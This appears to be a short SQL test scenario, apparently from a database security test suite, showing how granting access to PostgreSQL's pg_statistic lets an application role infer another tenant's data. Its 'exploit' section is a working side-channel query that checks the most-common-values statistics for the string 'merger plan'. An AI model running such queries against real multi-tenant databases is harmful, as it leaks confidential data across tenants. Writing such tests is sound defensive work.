-- The statistics of all columns, with their most common values, were granted for a tuning tool.
-- object: pg_catalog.pg_statistic
-- object: role:{app}
-- object: database:{db}
-- base: projects
--- leak
RESET ROLE;
GRANT SELECT ON pg_catalog.pg_statistic TO {app};
--- operator
RESET ROLE;
INSERT INTO files (org_id, name) SELECT '{B}', 'merger plan' FROM generate_series(1, 50);
ANALYZE files;
--- exploit
SELECT 1 FROM pg_statistic WHERE starelid = 'files'::regclass AND concat(stavalues1, stavalues2, stavalues3) LIKE '%merger plan%';
